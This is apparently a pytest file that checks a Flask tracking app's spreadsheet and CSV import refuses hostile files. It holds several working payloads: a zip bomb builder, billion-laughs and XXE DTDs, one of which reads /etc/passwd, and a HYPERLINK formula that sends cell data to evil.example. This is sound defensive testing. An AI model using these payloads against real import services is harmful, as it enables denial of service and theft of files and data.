"""Hostile import files: zip bombs, damaged and password-protected workbooks, wrong encodings,
wrong columns, formulas, dates as words, oceans of empty rows — each refused with a message that
says what is wrong (and where), nothing half-imported, never a 500."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from flask_babel import force_locale

from ppp_tracker.core.errors import Invalid
from ppp_tracker.db import db
from ppp_tracker.registry.models import Contract, Party
from ppp_tracker.reports import imports, tasks
from ppp_tracker.reports.models import ImportBatch, ImportStatus
from tests import factories
from tests.conftest import csrf_token, login
from tests.reports_support import csv_bytes, xlsx_bytes

pytestmark = pytest.mark.usefixtures("app")

PARTY_HEADER = ["name", "kind", "bin"]


def _count(model) -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(model))


def _refused(user, filename: str, content: bytes, kind: str = "parties") -> str:
    with force_locale("en"), pytest.raises(Invalid) as exc:
        imports.create_batch(user, kind, filename, content)
    db.session.rollback()
    assert _count(ImportBatch) == 0
    return " ".join(exc.value.errors["file"])


def _zip_bomb(unpacked_mb: int) -> bytes:
    """A real workbook whose sheet XML unpacks to `unpacked_mb` MB (an XML comment of spaces)."""
    good = zipfile.ZipFile(io.BytesIO(xlsx_bytes([PARTY_HEADER, ["A", "tenant", ""]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for info in good.infolist():
            data = good.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                padding = b"<!--" + b" " * (unpacked_mb * 1024 * 1024) + b"-->"
                data = data.replace(b"<sheetData>", b"<sheetData>" + padding, 1)
            bomb.writestr(info.filename, data)
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(make_user):
    officer = make_user("officer", "KZ-35")
    bomb = _zip_bomb(110)
    assert len(bomb) < 1024 * 1024  # small enough for every upload limit
    message = _refused(officer, "bomb.xlsx", bomb)
    assert "unpacks to more than 100 MB" in message, message
    # The same workbook without the padding would have been accepted.
    assert _zip_bomb(1) and imports.create_batch(officer, "parties", "ok.xlsx", _zip_bomb(1))
    db.session.rollback()


def test_damaged_protected_and_disguised_workbooks_are_refused_with_their_reason(make_user):
    officer = make_user("officer", "KZ-35")
    good = xlsx_bytes([PARTY_HEADER, ["ТОО «Альфа»", "tenant", ""]])
    truncated = good[: len(good) // 2]
    assert "cannot be read" in _refused(officer, "cut.xlsx", truncated)
    # Excel stores a workbook with a password to open in an OLE2 container, not a zip.
    protected = imports.OLE_MAGIC + b"\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"EncryptedPackage"
    assert "password" in _refused(officer, "secret.xlsx", protected)
    assert "not an Excel workbook" in _refused(officer, "notes.xlsx", b"name,kind\nA,tenant\n")
    assert "empty" in _refused(officer, "empty.csv", b"")
    assert "binary data" in _refused(officer, "nul.csv", b"name,kind\nA\x00,tenant\n")
    assert _count(Party) == 0


def test_encodings_a_csv_in_cp1251_is_refused_and_a_bom_is_read(make_user):
    officer = make_user("officer", "KZ-35")
    windows = [PARTY_HEADER, ["ТОО «Сибирь»", "tenant", ""]]  # cp1251 has no Kazakh letters
    message = _refused(officer, "win.csv", csv_bytes(windows, encoding="cp1251"))
    assert "not in UTF-8 (byte" in message and "CSV UTF-8" in message
    with_bom = csv_bytes([PARTY_HEADER, ["ТОО «Қазақ Әлемі»", "tenant", ""]], encoding="utf-8-sig")
    assert with_bom.startswith(b"\xef\xbb\xbf")
    batch = imports.create_batch(officer, "parties", "bom.csv", with_bom)
    db.session.commit()
    assert batch.total_rows == 1  # the BOM did not spoil the first column's name
    assert tasks.check_import.run(batch.id) == "checked"
    db.session.expire_all()
    assert db.session.get(ImportBatch, batch.id).errors == []


def test_missing_and_extra_columns_are_named(make_user):
    officer = make_user("officer", "KZ-35")
    missing = _refused(officer, "m.csv", csv_bytes([["name"], ["ТОО «Альфа»"]]))
    assert "required columns missing: Kind" in missing
    extra = _refused(
        officer, "e.csv", csv_bytes([[*PARTY_HEADER, "salary"], ["ТОО «А»", "tenant", "", "1"]])
    )
    assert "unknown columns: salary" in extra


def test_formulas_are_refused_with_their_row_and_column(make_user):
    officer = make_user("officer", "KZ-35")
    workbook = xlsx_bytes([PARTY_HEADER, ["ТОО «А»", "tenant", ""], ["=1+1", "tenant", ""]])
    message = _refused(officer, "f.xlsx", workbook)
    assert "Formulas are not imported" in message and "row 3, column «Name»: =1+1" in message
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    message = _refused(officer, "f.csv", csv_bytes([PARTY_HEADER, [hyperlink, "tenant", ""]]))
    assert "row 2, column «Name»: =HYPERLINK" in message
    assert _count(Party) == 0


def test_a_hundred_thousand_empty_rows_are_no_data(make_user):
    officer = make_user("officer", "KZ-35")
    content = ",".join(PARTY_HEADER).encode() + b"\r\n" + b",,\r\n" * 100_000
    assert "header but no data rows" in _refused(officer, "blank.csv", content)


def test_dates_as_words_are_named_by_row_and_column_and_nothing_is_saved(make_user, set_today):
    set_today("2014-06-12")
    officer = make_user("officer", "KZ-35")
    contractor = factories.party()
    factories.party(kind="government", bin=None, name="ДУИС")
    factories.project("KZ-35", title="Проект")
    header = ["number", "signed_on", "customer", "contractor", "project", "subject",
              "total_amount", "milestone_title", "milestone_type", "milestone_due_on"]  # fmt: skip
    good = ["Д-1", "01.02.2014", "ДУИС", contractor.bin, "Проект", "Поставка", "1000",
            "Поставка", "delivery", "01.03.2014"]  # fmt: skip
    signed = ["Д-2", "первое февраля", "ДУИС", contractor.bin, "Проект", "Поставка", "1000",
              "Поставка", "delivery", "01.03.2014"]  # fmt: skip
    due = ["Д-3", "01.02.2014", "ДУИС", contractor.bin, "Проект", "Поставка", "1000",
           "Поставка", "delivery", "March 1st"]  # fmt: skip
    batch = imports.create_batch(
        officer, "contracts", "c.csv", csv_bytes([header, good, signed, due])
    )
    db.session.commit()
    with force_locale("en"):
        assert tasks.check_import.run(batch.id) == "checked"
    db.session.expire_all()
    batch = db.session.get(ImportBatch, batch.id)
    found = {(e["row"], e["column"]) for e in batch.errors}
    assert found == {(3, "signed_on"), (4, "milestone_due_on")}, batch.errors
    assert all("DD.MM.YYYY" in e["message"] for e in batch.errors)
    assert batch.status == ImportStatus.CHECKED and _count(Contract) == 0
    with pytest.raises(Invalid):  # a file with errors cannot be committed
        imports.request_commit(batch)


@pytest.mark.parametrize(
    ("filename", "content", "expected"),
    [
        ("bomb.xlsx", "bomb", "100"),
        ("cut.xlsx", "truncated", ".xlsx"),
        ("win.csv", "cp1251", "UTF-8"),
        ("f.csv", "formula", "=1+1"),
    ],
)
def test_the_upload_form_answers_hostile_files_with_the_message(
    client, make_user, filename, content, expected
):
    files = {
        "bomb": lambda: _zip_bomb(110),
        "truncated": lambda: xlsx_bytes([PARTY_HEADER])[:300],
        "cp1251": lambda: csv_bytes([PARTY_HEADER, ["ТОО «Я»", "tenant", ""]], encoding="cp1251"),
        "formula": lambda: csv_bytes([PARTY_HEADER, ["=1+1", "tenant", ""]]),
    }
    login(client, make_user("officer", "KZ-35"))
    token = csrf_token(client, "/imports")
    response = client.post(
        "/imports",
        data={
            "csrf_token": token,
            "kind": "parties",
            "file": (io.BytesIO(files[content]()), filename),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert 'data-field-error="file"' in html and expected in html
    assert _count(ImportBatch) == 0


def test_an_upload_over_the_request_limit_is_a_page_that_names_the_limit(app, client, make_user):
    login(client, make_user("officer", "KZ-35"))
    token = csrf_token(client, "/imports")
    app.config["MAX_CONTENT_LENGTH"] = 1024 * 1024
    try:
        big = b"name,kind\n" + b"A,tenant\n" * 200_000
        response = client.post(
            "/imports",
            data={"csrf_token": token, "kind": "parties", "file": (io.BytesIO(big), "big.csv")},
            content_type="multipart/form-data",
        )
    finally:
        app.config["MAX_CONTENT_LENGTH"] = 20 * 1024 * 1024
    assert response.status_code == 413
    html = response.get_data(as_text=True)
    assert "<html" in html and "1 МБ" in html  # the page, in the user's language, with the limit
    assert _count(ImportBatch) == 0


def _with_dtd(doctype: bytes, cell: bytes | None = None, part: str = "xl/worksheets/sheet1.xml"):
    """A real workbook whose XML `part` starts with `doctype` (and whose first data cell is
    `cell`, e.g. an entity reference)."""
    good = zipfile.ZipFile(io.BytesIO(xlsx_bytes([PARTY_HEADER, ["Альфа", "tenant", ""]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as changed:
        for info in good.infolist():
            data = good.read(info.filename)
            if info.filename == part:
                root = data.index(b"<", data.index(b"?>") + 2 if data.startswith(b"<?") else 0)
                data = data[:root] + doctype + data[root:]
                if cell is not None:
                    data = data.replace("<t>Альфа</t>".encode(), b"<t>" + cell + b"</t>", 1)
            changed.writestr(info.filename, data)
    return out.getvalue()


LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
DTDS = [
    ("entity", '<!DOCTYPE worksheet [<!ENTITY x "ТОО Бета">]>'.encode(), b"&x;",
     "xl/worksheets/sheet1.xml"),
    ("laughs", LAUGHS, b"&d;", "xl/worksheets/sheet1.xml"),
    ("file", b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;",
     "xl/worksheets/sheet1.xml"),
    ("url", b'<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/x.dtd">', None,
     "xl/worksheets/sheet1.xml"),
    ("workbook", b'<!DOCTYPE workbook [<!ENTITY x "y">]>', None, "xl/workbook.xml"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("doctype", "cell", "part"), [d[1:] for d in DTDS], ids=[d[0] for d in DTDS]
)
def test_a_workbook_with_a_dtd_is_refused_before_any_parser_reads_it(
    make_user, doctype, cell, part
):
    officer = make_user("officer", "KZ-35")
    message = _refused(officer, "dtd.xlsx", _with_dtd(doctype, cell, part))
    assert "document type declaration (DTD)" in message, message
    assert _count(Party) == 0
    # the same workbook without its DTD is read
    assert imports.create_batch(officer, "parties", "ok.xlsx", _with_dtd(b""))


def test_an_xml_part_in_utf16_is_refused_as_one_excel_does_not_write(make_user):
    officer = make_user("officer", "KZ-35")
    good = zipfile.ZipFile(io.BytesIO(xlsx_bytes([PARTY_HEADER, ["Альфа", "tenant", ""]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as changed:
        for info in good.infolist():
            data = good.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = data.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
                data = text.encode("utf-16")
            changed.writestr(info.filename, data)
    assert "XML that Excel does not write" in _refused(officer, "u16.xlsx", out.getvalue())


def test_without_defusedxml_a_dtd_still_never_reaches_the_parser(app, tmp_path):
    """openpyxl parses with lxml when defusedxml is absent (or OPENPYXL_DEFUSEDXML=False): it
    expands entities and fails on external ones while the sheet is read. Our check comes first,
    whatever openpyxl would do; this runs the reader in such a process."""
    import os
    import subprocess
    import sys

    for name, doctype, cell, part in DTDS:
        path = tmp_path / f"{name}.xlsx"
        path.write_bytes(_with_dtd(doctype, cell, part))
    script = (
        "import sys, pathlib\n"
        "from wsgi import app\n"
        "from ppp_tracker.reports import imports\n"
        "with app.test_request_context():\n"
        "    for path in sorted(pathlib.Path(sys.argv[1]).glob('*.xlsx')):\n"
        "        try:\n"
        "            kind = imports.ImportKind('parties')\n"
        "            read = imports.read_file(kind, path.name, path.read_bytes())\n"
        "            print(path.stem, 'READ', read.rows[0][1]['name'][:20])\n"
        "        except imports.FileRefused as exc:\n"
        "            print(path.stem, 'REFUSED', 'DTD' in exc.message)\n"
    )
    env = {**os.environ, "OPENPYXL_DEFUSEDXML": "False", "PPP_ENV": "test"}
    done = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path)],
        capture_output=True, text=True, env=env, timeout=120, cwd=str(Path(__file__).parent.parent),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert sorted(done.stdout.split("\n")[:-1]) == sorted(f"{n} REFUSED True" for n, *_ in DTDS)
